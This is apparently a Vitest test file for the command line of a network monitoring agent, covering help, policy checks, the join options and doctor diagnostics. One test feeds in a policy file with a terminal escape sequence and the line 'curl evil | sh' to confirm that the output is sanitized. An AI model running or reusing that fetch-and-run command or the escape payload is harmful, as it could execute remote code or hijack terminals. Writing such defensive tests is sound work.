import { execFile, spawnSync } from 'node:child_process';
import { chmodSync, copyFileSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

const run = promisify(execFile);
/** Created by the build, which runs before these tests. */
const BUILT = path.resolve(import.meta.dirname, '../../../dist/apps/agent/main.js');

interface Ended {
  code: number;
  stdout: string;
  stderr: string;
}

describe('the command line of the agent', () => {
  let dir: string;
  let agent: string;

  beforeAll(() => {
    dir = mkdtempSync(path.join(tmpdir(), 'agent-commands-'));
    chmodSync(dir, 0o755);
    agent = path.join(dir, 'agent.mjs');
    copyFileSync(BUILT, agent);
    chmodSync(agent, 0o644);
  });
  afterAll(() => rmSync(dir, { recursive: true }));

  async function call(
    args: readonly string[],
    env: NodeJS.ProcessEnv = {},
    prefix: readonly string[] = [],
  ): Promise<Ended> {
    const [program = '', ...words] = [...prefix, process.execPath, agent, ...args];
    const settings = { ICMPMON_AGENT_STATE_DIR: path.join(dir, 'state'), ICMPMON_OPS_PORT: '1', ...env };
    return run(program, words, { env: { PATH: process.env['PATH'], ...settings } }).then(
      ({ stdout, stderr }) => ({ code: 0, stdout, stderr }),
      ({ code, stdout, stderr }: Ended) => ({ code, stdout, stderr }),
    );
  }

  it('has a help, a version, and refuses what it does not know', async () => {
    expect(await call(['--help'])).toMatchObject({ code: 0, stdout: expect.stringContaining('doctor') });
    expect(await call(['version'])).toMatchObject({
      code: 0,
      stdout: expect.stringMatching(/^icmpmon-agent \d.*Node v?24/),
    });
    const wrong = await call(['docter']);
    expect(wrong).toMatchObject({ code: 2, stderr: expect.stringContaining('Did you mean doctor?') });
  });

  it('lists all problems of a policy file', async () => {
    const file = path.join(dir, 'policy.yaml');
    writeFileSync(file, 'allow: [10.0.0.0/8]\n');
    expect(await call(['policy', 'check', file])).toMatchObject({
      code: 0,
      stdout: expect.stringContaining('accepts'),
    });
    writeFileSync(file, 'alow: []\nports: {http: {allow: [0]}}\n');
    const { code, stderr } = await call(['policy', 'check'], { ICMPMON_AGENT_POLICY_FILE: file });
    expect([code, stderr.trim().split('\n')]).toEqual([
      1,
      [expect.stringContaining('"alow" is unknown'), expect.stringContaining('"0" is not a port')],
    ]);
    expect(await call(['policy', 'check', path.join(dir, 'none')])).toMatchObject({
      code: 1,
      stderr: expect.stringContaining('ENOENT'),
    });
    expect(await call(['policy', 'check'])).toMatchObject({ code: 2 });
  });

  it('prints no control character of a file or an address to the terminal', async () => {
    const file = path.join(dir, 'hostile.yaml');
    writeFileSync(file, '"\\e]0;evil\\a\\nfix: curl evil | sh": 1\n');
    const env = { ICMPMON_AGENT_POLICY_FILE: file, ICMPMON_AGENT_ENROL_URL: 'https://127.0.0.1:1' };
    const ended = [await call(['policy', 'check'], env), await call(['doctor'], env)];
    const texts = ended.map(({ stdout, stderr }) => stdout + stderr);
    for (const text of texts) {
      expect(text).toContain('\\u{1b}]0;evil\\u{7}\\u{a}fix: curl evil');
      expect(text).not.toMatch(/[\u0007\u001b]|^ *fix: curl/m);
    }
  });

  it('names all options that are missing to join', async () => {
    const { code, stderr } = await call(['join', '--name', 'fra-1']);
    expect([code, stderr]).toEqual([2, expect.stringContaining('--url, --ca, --token, --region, --provider')]);
  });

  it('reports wrong settings as findings', async () => {
    const { code, stdout } = await call(['doctor', '--json'], { ICMPMON_AGENT_SPOOL_BYTES: 'much' });
    const { ok, findings } = JSON.parse(stdout) as { ok: boolean; findings: { check: string; detail: string }[] };
    expect([code, ok]).toEqual([1, false]);
    expect(findings.map(({ detail }) => detail.split(' ')[0])).toEqual([
      'ICMPMON_AGENT_ENROL_URL',
      'ICMPMON_AGENT_SPOOL_BYTES',
    ]);
    expect((await call(['doctor'])).stdout).toMatch(/\n1 fault, 0 warnings\.\n$/);
  });

  const asNobody = ['setpriv', '--reuid', '65534', '--regid', '65534', '--clear-groups'];
  // The Node of a workspace below a private folder cannot be started by another user.
  const canRun =
    process.getuid?.() === 0 && spawnSync('setpriv', [...asNobody.slice(1), process.execPath, '-v']).status === 0;

  it.runIf(canRun)('examines a machine without being root', async () => {
    const env = { ICMPMON_AGENT_ENROL_URL: 'https://127.0.0.1:1' };
    const { code, stdout } = await call(['doctor', '--json'], env, asNobody);
    const { findings } = JSON.parse(stdout) as { findings: { check: string; state: string; detail: string }[] };
    const of = (check: string): unknown => findings.find((finding) => finding.check === check);
    expect(code).toBe(1);
    expect(of('permissions')).toMatchObject({
      detail: expect.stringContaining('user 65534 has no CAP_NET_RAW of its own'),
    });
    expect(of('ping over IPv4')).toMatchObject({ state: 'ok' });
    expect(of('state folder')).toMatchObject({ state: 'fault' });
  });
});
